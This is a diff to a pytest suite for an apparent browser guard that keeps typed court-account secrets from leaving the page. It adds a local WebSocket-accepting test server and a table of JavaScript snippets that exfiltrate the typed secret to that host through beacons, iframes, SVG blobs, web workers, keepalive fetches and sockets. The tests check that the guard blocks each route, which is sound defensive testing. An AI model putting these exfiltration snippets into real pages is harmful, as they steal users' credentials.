@@ -2,8 +2,11 @@
 
 import http.server
 import threading
+from base64 import b64encode
 from collections.abc import Iterator
+from contextlib import suppress
 from dataclasses import dataclass, field
+from hashlib import sha1
 from typing import Any
 
 import pytest
@@ -11,6 +14,7 @@ import pytest
 from config.account import Account
 from ecfcheck.browser.secret_guard import build_pattern
 from ecfcheck.browser.window import Window
+from pages.errors import MissingControlError
 
 
 @dataclass
@@ -24,7 +28,12 @@ class OtherHost:
 @pytest.fixture
 def other_host() -> Iterator[OtherHost]:
     class Handler(http.server.BaseHTTPRequestHandler):
+        protocol_version = "HTTP/1.1"
+
         def do_GET(self) -> None:
+            if key := self.headers.get("Sec-WebSocket-Key"):
+                self.accept_socket(key)
+                return
             body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
             host.requests.append(f"{self.path} {body.decode()}")
             content = b"<script>for (;;) ;</script>" if self.path == "/busy" else b""
@@ -35,6 +44,19 @@ def other_host() -> Iterator[OtherHost]:
             self.wfile.write(content)
 
         do_POST = do_GET  # noqa: N815 - http.server looks for this name
+
+        def accept_socket(self, key: str) -> None:
+            """Keep a WebSocket open until the browser closes it."""
+            host.requests.append(self.path)
+            digest = sha1(f"{key}258EAFA5-E914-47DA-95CA-C5AB0DC85B11".encode(), usedforsecurity=False)
+            self.send_response(101)
+            self.send_header("Upgrade", "websocket")
+            self.send_header("Connection", "Upgrade")
+            self.send_header("Sec-WebSocket-Accept", b64encode(digest.digest()).decode())
+            self.end_headers()
+            self.close_connection = True
+            while self.rfile.read(1):
+                pass
 
         def log_message(self, *_: Any) -> None:
             """Print nothing."""
@@ -104,13 +126,35 @@ def test_a_page_with_a_typed_secret_does_not_lead_to_another_host(
     assert other_host.requests == []
 
 
+SEND_LAST = "addEventListener('pagehide', () => navigator.sendBeacon(there, secret))"
+ADD_FRAME = "const frame = document.createElement('iframe'); document.body.append(frame);"
+WORK = """onmessage = event => fetch(event.data[0], {
+    method: 'POST', mode: 'no-cors', keepalive: true, body: event.data[1],
+})"""
 LAST_WAYS = {
-    "a beacon": "addEventListener('pagehide', () => navigator.sendBeacon(there, secret))",
+    "a beacon": SEND_LAST,
     "a beacon of a hidden page": "document.addEventListener('visibilitychange',"
     " () => navigator.sendBeacon(there, secret))",
     "an image": "addEventListener('pagehide', () => { new Image().src = there + '/?' + encodeURI(secret) })",
     "a request that outlives the page": "addEventListener('unload', () =>"
     " fetch(there, {method: 'POST', mode: 'no-cors', body: secret, keepalive: true}))",
+    "a beacon of a frame": ADD_FRAME
+    + SEND_LAST.replace("navigator.sendBeacon", "frame.contentWindow.navigator.sendBeacon"),
+    "a beacon of a picture in a frame": f"""{ADD_FRAME} globalThis.there = there; globalThis.secret = secret;
+        const script = `const {{there, secret}} = parent; {SEND_LAST}`;
+        const picture = `<svg xmlns='http://www.w3.org/2000/svg'><script>${{script}}</${{'script'}}></svg>`;
+        frame.src = URL.createObjectURL(new Blob([picture], {{type: 'image/svg+xml'}}));""",
+    "a beacon, with a form that is called head": "document.forms[0].setAttribute('name', 'head');"
+    + SEND_LAST,
+    "a beacon of a document that is written anew": "document.open(); document.write('<p>Please wait</p>');"
+    + SEND_LAST,
+    "a beacon of a document without elements": f"document.documentElement.remove(); {SEND_LAST}",
+    "a beacon after a method is replaced": f"Document.prototype.createElementNS = null; {SEND_LAST}",
+    "a worker": f"""const worker = new Worker(URL.createObjectURL(new Blob([`{WORK}`])));
+        addEventListener('pagehide', () => {{
+            worker.postMessage([there, secret]);
+            for (const end = Date.now() + 300; Date.now() < end;);
+        }});""",
 }
 
 
@@ -119,7 +163,8 @@ def test_what_was_typed_does_not_get_to_another_host_when_the_page_is_left(
     script: str, window: Window, account: Account, other_host: OtherHost
 ) -> None:
     listen(window, f"const there = '{other_host.address}'; {script}")
-    fill_in(window, account)
+    with suppress(MissingControlError):  # what is written anew has no fields
+        fill_in(window, account)
     window.load(window.court.website, 10)
     # What the page sent before it was left would have come before this.
     window.page.evaluate("there => fetch(`${there}/last`, {mode: 'no-cors'})", other_host.address)
@@ -150,6 +195,35 @@ def test_another_tab_of_the_court_does_not_end_the_guard(
         fill_in(window, account)
     assert window.secret_guard.escapes == [f"what was typed to {other_host.address}"]
     assert other_host.requests == []
+
+
+def test_a_socket_to_another_host_that_is_open_is_closed_before_anything_is_typed(
+    window: Window, account: Account, other_host: OtherHost
+) -> None:
+    address = other_host.address.replace("http", "ws")
+    window.page.evaluate(
+        """address => new Promise(done => {
+            globalThis.socket = new WebSocket(address);
+            socket.onopen = () => done();
+        })""",
+        address,
+    )
+    listen(window, "globalThis.stateWhenTyped = socket.readyState")
+    fill_in(window, account)
+    assert window.page.evaluate("stateWhenTyped === WebSocket.CLOSING")
+
+
+def test_a_frame_that_was_there_before_opens_no_socket_to_another_host(
+    window: Window, account: Account, other_host: OtherHost
+) -> None:
+    window.page.evaluate(f"() => {{ {ADD_FRAME} }}")
+    address = other_host.address.replace("http", "ws")
+    listen(window, f"new frames[frames.length - 1].WebSocket('{address}/?' + encodeURIComponent(secret))")
+    fill_in(window, account)
+    window.load(window.court.website, 10)
+    # What the page sent before it was left would have come before this.
+    window.page.evaluate("there => fetch(`${there}/last`, {mode: 'no-cors'})", other_host.address)
+    assert other_host.requests == ["/last "]
 
 
 UNSEEN = {
